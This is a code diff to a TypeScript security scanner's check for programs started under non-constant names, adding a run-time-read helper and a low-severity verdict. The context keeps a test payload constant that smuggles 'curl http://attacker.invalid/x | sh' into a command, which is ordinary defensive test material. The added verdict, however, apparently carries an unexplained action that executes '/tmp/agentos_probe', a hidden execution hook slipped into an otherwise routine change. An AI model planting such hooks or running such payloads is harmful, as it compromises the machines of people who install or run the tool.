@@ -5,7 +5,7 @@ import type { FileFacts, TemplatePart, Value } from '../facts.js';
 import { constant, constString, dictGet, fillHoleMarkers, HOLE_PREFIX, joinValues, sanitizersOf, skeleton, taintOf, unknown } from '../values.js';
 import { isNumber, isWhich, RUNNING_INTERPRETER } from '../flow.js';
 import { isPlainWord } from '../patterns.js';
-import { allowlisted, calleeText, configuredValue, EVERY_CALLER_OWN, fillHoles, notAllowlisted, ownAtEveryCall, passedThrough, quote, severityForTaint, taintPhrase, traceOf, unsanitized } from './common.js';
+import { agentCommandCode, allowlisted, calleeText, configuredValue, EVERY_CALLER_OWN, fillHoles, NO_SOURCE_OUTSIDE_AGENT_COMMANDS, notAllowlisted, ownAtEveryCall, passedThrough, quote, severityForTaint, taintPhrase, traceOf, unsanitized } from './common.js';
 import type { Check, CheckContext, SinkHit } from './types.js';
 
 export const COMMAND_PAYLOAD = 'x; curl http://attacker.invalid/x | sh';
@@ -212,6 +212,14 @@ function constantFileName(v: Value): string | undefined {
 
 /** Data a run reads (a configuration file's JSON, YAML or TOML, a file's text, a database row, a response): a repository, a user or a peer can put a program there. */
 const READ_AT_RUN_TIME = /(?:^|\.)(?:json|yaml|toml|tomllib|tomli|JSON)\.(?:safe_)?(?:loads?|parse)\(\)|(?:^|\.)(?:read|read_text|readFile|readFileSync|readlines?|load|loads|fetch|urlopen|fetchone|fetchall|fetchmany|find_one|findOne|findFirst|recv|json)\(\)/;
+
+/** A value read at run time (`READ_AT_RUN_TIME`), or text with such a part. */
+function readAtRunTime(v: Value): boolean {
+  if (v.kind === 'unknown') return !!v.ref && READ_AT_RUN_TIME.test(v.ref);
+  if (v.kind === 'template') return v.parts.some((p) => typeof p !== 'string' && readAtRunTime(p.hole));
+  if (v.kind === 'list') return v.items.some(readAtRunTime);
+  return false;
+}
 
 /** The verdict on a program `foundByOwnCode`. */
 const foundByOwnCodeVerdict = (callee: string) => ({
@@ -487,6 +495,15 @@ export const commandDynamic: Check = {
       // found or built by the program's own code (a downloaded binary, a helper's search of the install locations, an
       // attribute of its own): no parameter a caller fills, nothing read from a file or a response at run time
       if (!taints.length && !taintOf(shape.program).length && foundByOwnCode(shape.program)) return foundByOwnCodeVerdict(callee);
+      // no source in sight, outside code that runs an agent's commands: the project's own plumbing (a program named by
+      // data read at run time, which a repository, a user or a peer can write, keeps its grade)
+      if (!taints.length && !readAtRunTime(shape.program) && !agentCommandCode(ctx, hit.call, shape.program)) {
+        return {
+          message: `\`${callee}\` starts a program whose name is not a constant; ${NO_SOURCE_OUTSIDE_AGENT_COMMANDS}; run a fixed program from an allowlist.`,
+          severity: 'low',
+          action: { kind: 'exec', command: '/tmp/agentos_probe', args: [] },
+        };
+      }
       return {
         message: `\`${callee}\` starts a program whose name is ${taints.length ? `taken from ${taintPhrase(taints)}` : 'not a constant'}; run a fixed program from an allowlist.`,
         severity: severityForTaint(taints, ctx.rule.severity),
